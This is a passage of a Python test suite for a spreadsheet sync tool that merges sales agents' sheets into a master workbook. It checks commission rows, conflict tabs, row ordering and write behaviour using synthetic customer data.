    world.type_rows("sara", [{"Name": "P", "Phone": "01001240001", "Email": "sara@example.com"}])
    world.cycle()
    conflicts = world.backend.get_tab(world.master, "Conflicts")[1:]
    assert [cell_text(row[6]) for row in conflicts] in (
        ["sara@example.com"],
        ["ali@example.com"],
    )
    rendered: list[bool] = []
    small_tabs = master_update.small_tabs

    def recorded(*args: Any, **kwargs: Any) -> dict[str, Any]:
        tabs = small_tabs(*args, **kwargs)
        rendered.append("Conflicts" in tabs)
        return tabs

    monkeypatch.setattr(master_update, "small_tabs", recorded)
    set_cells = world.backend.set_cells
    tabs_set: list[set[str]] = []

    def counted(source, cells, **kwargs):
        cells = list(cells)
        if source == world.master:
            tabs_set.append({cell[0] for cell in cells})
        return set_cells(source, cells, **kwargs)

    monkeypatch.setattr(world.backend, "set_cells", counted)

    world.edit("ali", {"Name": "Q"}, {"Status": "Negotiating", "Notes": "call Sunday"})
    world.cycle()
    assert rendered == [False]  # the master brought up to date row by row, Conflicts kept
    assert tabs_set and "Conflicts" not in set().union(*tabs_set)
    assert world.master_differences() == {}

    # What the conflict proposes moves: the tab is rendered again and shows it.
    world.edit("sara", {"Name": "P"}, {"Email": "sara.ahmed@example.com"})
    world.edit("ali", {"Name": "P"}, {"Email": "ali.hassan@example.com"})
    world.cycle()
    assert rendered[1:] == [True]
    assert world.master_differences() == {}
    assert world.cycle().cells_written == 0


def test_commission_and_conflicts_are_kept_row_by_row_by_the_customers_they_count(world):
    """An edit that completes one customer and takes back another's completion re-counts
    only the months and agents those customers are (or were) counted in: the Commission
    rows of the others are neither rendered nor written, a row gone from the middle is a
    row taken out; the colleagues lost to a completion move with it. The master is what a
    whole render gives (a conflict closed with the edit too), and it was not read."""
    done = {"Status": "Completed"}
    world.type_rows(
        "ali",
        [
            {"Name": "A", "Phone": "01001230001", **done, "Completed on": "2026-10-05"},
            {"Name": "B", "Phone": "01001230002", **done, "Completed on": "2026-11-03"},
            {"Name": "C", "Phone": "01001230003", "Status": "Prospect"},
            {"Name": "F", "Phone": "01001230006", "Status": "Prospect"},
            *(
                {"Name": f"P{i}", "Phone": f"0100124{i:04d}", "Email": f"ali{i}@example.com"}
                for i in range(3)
            ),
        ],
    )
    world.type_rows(
        "sara",
        [
            {"Name": "A", "Phone": "01001230001"},  # lost to Ali's completion: October's
            {"Name": "E", "Phone": "01001230005", **done, "Completed on": "2026-11-09"},
            {"Name": "F", "Phone": "01001230006", "Status": "Prospect"},
            *(
                {"Name": f"P{i}", "Phone": f"0100124{i:04d}", "Email": f"sara{i}@example.com"}
                for i in range(3)
            ),
        ],
    )
    world.cycle()
    assert world.master_differences() == {}
    number = {r["Name"]: r["Customer #"] for r in world.rows("ali") + world.rows("sara")}

    def commission() -> list[list[str]]:
        grid = world.backend.get_tab(world.master, "Commission")
        return [[cell_text(v) for v in row[:4]] + [cell_text(row[5])] for row in grid[1:]]

    assert commission() == [
        ["2026-11", "Ali Hassan", "1", number["B"], "0"],
        ["2026-11", "Sara Ahmed", "1", number["E"], "0"],
        ["2026-10", "Ali Hassan", "1", number["A"], "0"],
        ["2026-10", "Sara Ahmed", "0", "", "1"],
    ]
    # One Email proposal per customer P0..P2; the one on P1 is withdrawn with the edit.
    conflicts = world.backend.get_tab(world.master, "Conflicts")[1:]
    assert [cell_text(r[2]) for r in conflicts] == [number[f"P{i}"] for i in range(3)]
    proposer = "ali" if cell_text(conflicts[1][3]) == "Ali Hassan" else "sara"
    agreed = "sara1@example.com" if proposer == "ali" else "ali1@example.com"
    sent: list[tuple[list[tuple[str, int]], list[RowMove]]] = []
    backend = world.backend
    read, set_cells = backend.read, backend.set_cells

    def recorded(source, cells, *, version, moves=()):
        cells = list(cells)
        if source == world.master:
            sent.append((sorted({(c[0], c[1]) for c in cells}), list(moves)))
        return set_cells(source, cells, version=version, moves=moves)

    def unread(source, *args, **kwargs):
        assert source != world.master, "the master is read"
        return read(source, *args, **kwargs)

    backend.set_cells, backend.read = recorded, unread
    world.edit("ali", {"Name": "C"}, {"Status": "Completed", "Completed on": "2026-09-20"})
    world.edit("sara", {"Name": "E"}, {"Status": "In progress"})
    world.edit(proposer, {"Name": "P1"}, {"Email": agreed})
    world.cycle()
    assert commission() == [
        ["2026-11", "Ali Hassan", "1", number["B"], "0"],
        ["2026-10", "Ali Hassan", "1", number["A"], "0"],
        ["2026-10", "Sara Ahmed", "0", "", "1"],
        ["2026-09", "Ali Hassan", "1", number["C"], "0"],
    ]
    conflicts = world.backend.get_tab(world.master, "Conflicts")[1:]
    assert [cell_text(r[2]) for r in conflicts] == [number["P0"], number["P2"]]
    ((rows, moves),) = sent
    assert [row for tab, row in rows if tab == "Commission"] == [4]  # September's alone
    assert [m for m in moves if m.tab == "Commission"] == [RowMove("Commission", 2, -1)]
    assert world.master_differences() == {}
    assert world.cycle().cells_written == 0

    # Ali takes back A's completion: Sara was lost to it in October, and is no more. Sara
    # completes F, which Ali tracks too: Ali is lost to her in November.
    world.edit("ali", {"Name": "A"}, {"Status": "In progress"})
    world.edit("sara", {"Name": "F"}, {**done, "Completed on": "2026-11-15"})
    world.cycle()
    assert commission() == [
        ["2026-11", "Ali Hassan", "1", number["B"], "1"],
        ["2026-11", "Sara Ahmed", "1", number["F"], "0"],
        ["2026-09", "Ali Hassan", "1", number["C"], "0"],
    ]
    assert world.master_differences() == {}


def test_a_commission_row_is_made_again_from_its_shares_not_from_every_completion(
    world, monkeypatch
):
    """A customer whose completion moves to another month has the two Commission rows it
    moves between made again from what is stored with them: only that customer's
    trackings are counted, not every completion of its agent (at 50 agents x 2,000 rows,
    18,000 of them). The master is what a whole render gives."""
    done = {"Status": "Completed"}
    world.type_rows(
        "ali",
        [
            {"Name": "B", "Phone": "01001230002", **done, "Completed on": "2026-11-03"},
            {"Name": "C", "Phone": "01001230003", **done, "Completed on": "2026-11-05"},
            {"Name": "D", "Phone": "01001230004", **done, "Completed on": "2026-10-01"},
        ],
    )
    world.type_rows("sara", [{"Name": "C", "Phone": "01001230003"}])  # lost to Ali's
    world.cycle()
    counted: list[set[int]] = []
    commission_rows = master_update.commission_rows

    def recorded(agents, numbers, trackings, month=None):
        trackings = list(trackings)
        counted.append({t.customer_id for t in trackings})
        return commission_rows(agents, numbers, trackings, month)

    monkeypatch.setattr(master_update, "commission_rows", recorded)
    world.edit("ali", {"Name": "B"}, {"Completed on": "2026-10-20"})
    world.cycle()
    with world.session() as s:
        b = s.scalars(select(Customer.id).where(Customer.name == "B")).one()
    assert counted == [{b}]
    grid = world.backend.get_tab(world.master, "Commission")
    assert [[cell_text(v) for v in row[:3]] + [cell_text(row[5])] for row in grid[1:]] == [
        ["2026-11", "Ali Hassan", "1", "0"],
        ["2026-11", "Sara Ahmed", "0", "1"],
        ["2026-10", "Ali Hassan", "2", "0"],
    ]
    assert world.master_differences() == {}


@pytest.mark.parametrize("stored", ["nothing", "the ids alone"])
def test_commission_rows_stored_without_the_customers_they_count_are_counted_by_agent(
    world, stored
):
    """A Commission row stored without what each customer adds to it (by an earlier
    sheetsync: with the ids of the customers it counts, or with nothing, which stands for
    all its agent's trackings): a customer that agent tracks (or that row counts) changing
    has the agent's rows counted again, and from then on they say what they count."""
    done = {"Status": "Completed"}
    world.type_rows("ali", [{"Name": "B", "Phone": "01001230002", **done}])
    world.type_rows("sara", [{"Name": "E", "Phone": "01001230005", **done}])
    world.cycle()
    with world.session() as s, s.begin():
        for row in s.scalars(select(SheetRow).where(SheetRow.tab == "Commission")):
            shares = row.base["shares"]
            row.base = None if stored == "nothing" else [c for c, *_ in shares]

    # B is no longer counted for anyone: Ali's rows are counted again, Sara's kept.
    world.edit("ali", {"Name": "B"}, {"Status": "In progress"})
    world.cycle()
    assert world.master_differences() == {}
    with world.session() as s:
        query = select(SheetRow.key, SheetRow.base).where(SheetRow.tab == "Commission")
        bases = {key: base for key, base in s.execute(query)}
    assert len(bases) == 1  # Sara's, not counted again: as stored
    (sara,) = bases.values()
    assert sara is None if stored == "nothing" else isinstance(sara, list)

    world.edit("ali", {"Name": "B"}, done)
    world.cycle()
    assert world.master_differences() == {}
    with world.session() as s:
        query = select(SheetRow.key, SheetRow.base).where(SheetRow.tab == "Commission")
        bases = {key.partition("|")[2]: base for key, base in s.execute(query)}
        b = s.execute(select(Customer.id, Customer.number).where(Customer.name == "B")).one()
    assert bases == {"Sara Ahmed": sara, "Ali Hassan": {"shares": [[b.id, b.number, [100.0], 0]]}}


def test_master_rows_removed_or_moved_above_the_end_are_not_set_by_their_old_places(world):
    """A customer leaving the Customers tab, or a tracking moving to another customer (so
    another place in the Tracking tab) with the row count unchanged, between two cycles
    that change nothing else: the master is what a whole render gives, not the rows set
    at the places they had."""
    people = [
        {"Name": f"Person {i}", "Phone": f"0100123450{i}", "Status": "Prospect"} for i in range(4)
    ]
    world.type_rows("ali", people[:3])
    world.type_rows("sara", people[3:])
    world.cycle()
    assert world.master_differences() == {}

    with world.session() as s, s.begin():
        first, second, _, last = s.scalars(select(Customer).order_by(Customer.number)).all()
        # Sara's tracking of the last customer now belongs to the second one: above the
        # end, as many rows in another order (the trackings are sorted by customer).
        sara = s.scalars(select(Tracking).where(Tracking.customer_id == last.id)).one()
        sara.customer_id = second.id
        audit_change(s, second.id)
        audit_change(s, last.id)
    world.cycle()
    assert world.master_differences() == {}

    with world.session() as s, s.begin():
        s.get(Customer, first.id).merged_into_id = second.id  # its row was the first
        audit_change(s, first.id)
        audit_change(s, second.id)
    world.cycle()
    assert world.master_differences() == {}


def test_the_row_order_check_sees_rows_swapped_with_their_count_unchanged(world):
    """Two trackings that trade customers: as many rows up to the last one written, the
    same ids, another order; the check says the rows are not the ones written."""
    world.type_rows("ali", [{"Name": f"Person {i}", "Phone": f"0100123450{i}"} for i in range(3)])
    world.type_rows("sara", [{"Name": "Person 3", "Phone": "01001234503"}])
    world.cycle()
    check = row_order.ROW_ORDERS["Tracking"]
    with world.session() as s, s.begin():
        state = s.scalars(
            select(SheetState).where(
                SheetState.source == world.master, SheetState.tab == "Tracking"
            )
        ).one()
        stored, rows = state.snapshot["order"], state.snapshot["rows"]
        assert rows == 4 and check.holds(s, stored, rows)
        assert check.rows_after(s, stored["last"], 10) == []
        # the database's sums are the ones stored, for each row tab
        for tab in ("Customers", "Follow-ups"):
            snap = s.scalars(
                select(SheetState).where(SheetState.source == world.master, SheetState.tab == tab)
            ).one()
            assert row_order.ROW_ORDERS[tab].holds(s, snap.snapshot["order"], snap.snapshot["rows"])
    with world.session() as s, s.begin():
        first, *_, last = s.scalars(select(Tracking).order_by(Tracking.customer_id)).all()
        first.customer_id, last.customer_id = last.customer_id, first.customer_id
        s.flush()
        assert s.scalar(select(func.count()).select_from(Tracking)) == rows
        assert not check.holds(s, stored, rows)
        s.rollback()


def test_a_colleague_s_rows_are_brought_up_to_date_without_reading_her_sheet(world, monkeypatch):
    """A shared value one agent filled reaches the colleague who tracks the same customer:
    her sheet, unchanged since the last cycle wrote it, has that customer's row set where
    the last cycle left it, without being read; her other rows and her own tracking stay."""
    world.type_rows("ali", [AHMED_ALI])
    world.type_rows("sara", [AHMED_SARA, {"Name": "Mona Said", "Phone": "01112223344"}])
    world.cycle()
    reads: list[str] = []
    read = world.backend.read

    def counted_read(source, *args, **kwargs):
        reads.append(source)
        return read(source, *args, **kwargs)

    monkeypatch.setattr(world.backend, "read", counted_read)
    world.edit("ali", {"Name": "Ahmed Mohamed"}, {"City/Region": "Giza"})
    report = world.cycle()

    # Sara's sheet is not read where cells are set under the file's lock; Google has no
    # compare-and-set, and a row set by position there could be one Sara just moved.
    assert world.source("sara") not in reads or not world.backend.sets_cells_atomically
    assert world.source("sara") in reads or world.backend.sets_cells_atomically
    assert world.source("ali") in reads
    assert report.customers_updated == 1 and report.agent_cells_written >= 1
    sara = {row["Name"]: row for row in world.rows("sara")}
    assert sara["Ahmed Mohamed"]["City/Region"] == "Giza"
    assert sara["Ahmed Mohamed"]["Status"].casefold() == "negotiating"  # hers, not Ali's
    assert sara["Mona Said"]["City/Region"] == ""
    assert world.cycle().cells_written == 0
    assert world.master_differences() == {}

    # Sara edits her sheet: it is read, and the rows' places come from that read.
    world.edit("sara", {"Name": "Mona Said"}, {"City/Region": "Tanta"})
    world.edit("ali", {"Name": "Ahmed Mohamed"}, {"Country": "Egypt"})
    world.cycle()
    sara = {row["Name"]: row for row in world.rows("sara")}
    assert sara["Ahmed Mohamed"]["Country"] == "Egypt"
    assert sara["Mona Said"]["City/Region"] == "Tanta"


def test_a_quarantined_sheet_is_read_before_a_colleague_s_change_is_set_in_it(world):
    """A tab that came back empty is held (quarantined), not written: where its rows were
    is no longer known, so a shared value filled elsewhere is not set into it by position."""
    world.type_rows("ali", [AHMED_ALI])
    world.type_rows("sara", [AHMED_SARA])
    world.cycle()
    world.delete_rows("sara", {"Name": "Ahmed Mohamed"})
    assert world.cycle().agents_quarantined == 1
    world.edit("ali", {"Name": "Ahmed Mohamed"}, {"City/Region": "Giza"})
    world.cycle()
    assert world.rows("sara") == []


def test_a_master_touched_between_two_tabs_writes_keeps_the_admins_cell(world):
    """The master is set a tab at a time; an admin who types in it meanwhile moves its
    version: the rest is compared cell by cell, the admin's cell is not overwritten, and
    the next cycle brings the master up to date."""
    if not world.backend.sets_cells_atomically:
        pytest.skip("Google's master is set in one write (one values write per cycle)")
    world.type_rows("ali", [AHMED_ALI])
    world.type_rows("sara", [AHMED_SARA])
    calls = []

    def admin_types_meanwhile(source: str) -> None:
        if source != world.master:
            return
        calls.append(source)
        if len(calls) == 2:  # the Customers tab is set; the Tracking tab is next
            grid = world.backend.get_tab(source, "Tracking")
            world.backend.set_tab(source, "Tracking", [grid[0], ["typed by the admin"]])

    world.backend.before_write = admin_types_meanwhile
    report = world.cycle()
    world.backend.before_write = None

    assert len(calls) >= 2 and not report.failures and report.writes_skipped >= 1
    assert world.backend.get_tab(world.master, "Customers")[1][0].startswith("CUS-")
    assert world.backend.get_tab(world.master, "Tracking")[1][0] == "typed by the admin"
    assert len(world.backend.get_tab(world.master, "Tracking")) == 3  # the rest was written
    world.cycle()
    tracking = world.backend.get_tab(world.master, "Tracking")
    assert len(tracking) == 3 and tracking[1][0] != "typed by the admin"


def test_a_run_whose_master_write_failed_is_recorded_partial(world, monkeypatch):
    world.type_rows("ali", [AHMED_ALI])
    world.cycle()
    real = world.backend.fingerprint
    monkeypatch.setattr(
        world.backend,
        "fingerprint",
        lambda source: None if source == world.master else real(source),
    )
    world.edit("ali", {"Name": "Ahmed Mohamed"}, {"Notes": "called back"})
    report = world.cycle()

    assert "master" in report.failures
    with world.session() as s:
        run = s.get(SyncRun, report.run_id)
        assert run is not None
        assert (run.status, list(run.errors)) == ("partial", ["master"])


def test_a_cycle_collects_garbage_less_often_and_restores_the_collector(world, monkeypatch):
    """While a cycle runs the collector's thresholds are sync.collector's (a cold cycle
    spent a quarter of its time in collections); after it, even a failed one, they are
    what they were."""
    world.type_rows("ali", [AHMED_ALI])
    before = gc.get_threshold()
    seen: list[tuple[int, ...]] = []
    read = world.backend.read

    def read_seeing_the_collector(source, *args, **kwargs):
        seen.append(gc.get_threshold())
        return read(source, *args, **kwargs)

    monkeypatch.setattr(world.backend, "read", read_seeing_the_collector)
    world.cycle()
    assert seen and set(seen) == {collector.THRESHOLDS} != {before}
    assert gc.get_threshold() == before

    def broken(*_args, **_kwargs):
        raise RuntimeError("boom")

    monkeypatch.setattr(cycle_module.Cycle, "_run", broken)
    with pytest.raises(RuntimeError):
        world.cycle()
    assert gc.get_threshold() == before


def test_an_edited_sheet_s_other_rows_are_not_parsed_or_written_again(world):
    """Only the rows an agent changed go further: the others show what the last cycle
    left there (a digest of their cells says so) and are bound by their Customer #."""
    world.type_rows(
        "ali",
        [
            AHMED_ALI,
            {"Name": "Mona Said", "Phone": "01112223344", "Status": "contacted"},
            {"Name": "Omar Adel", "Phone": "01223334455", "First contact": "25/09/2025"},
        ],
    )
    world.cycle()
    assert world.cycle().cells_written == 0

    world.edit("ali", {"Name": "Mona Said"}, {"Notes": "call after 5"})
    report = world.cycle()
    assert (report.rows_read, report.rows_unchanged) == (3, 2)
    assert report.trackings_updated == 1
    with world.session() as s:
        notes = s.execute(select(Tracking.notes).where(Tracking.notes.is_not(None))).scalars()
        assert sorted(notes) == ["Customer interested in scholarship", "call after 5"]
    assert world.cycle().cells_written == 0

    # Cleared again, the cell is a change like any other: its row alone is read.
    world.edit("ali", {"Name": "Mona Said"}, {"Notes": None})
    report = world.cycle()
    assert (report.rows_read, report.rows_unchanged) == (3, 2)
    with world.session() as s:
        assert s.scalar(select(func.count()).where(Tracking.notes == "call after 5")) == 0


def test_a_row_set_by_a_colleague_s_change_then_put_back_by_the_agent_is_read_again(world):
    """A row the cycle set for a colleague's change no longer shows what it showed before:
    when the agent puts its cells back as they were, the row is read and mended, not taken
    for a row nobody touched."""
    world.type_rows("ali", [AHMED_ALI, {"Name": "Mona Said", "Phone": "01112223344"}])
    world.cycle()
    world.type_rows("sara", [AHMED_SARA])
    world.cycle()  # Ali's row of Ahmed now names Sara in "Also tracked by"
    ahmed = {row["Name"]: row for row in world.rows("ali")}["Ahmed Mohamed"]
    assert ahmed["Also tracked by"].startswith("Sara")

    world.edit("ali", {"Name": "Ahmed Mohamed"}, {"Also tracked by": None})
    world.cycle()
    ahmed = {row["Name"]: row for row in world.rows("ali")}["Ahmed Mohamed"]
    assert ahmed["Also tracked by"].startswith("Sara")
    assert world.cycle().cells_written == 0
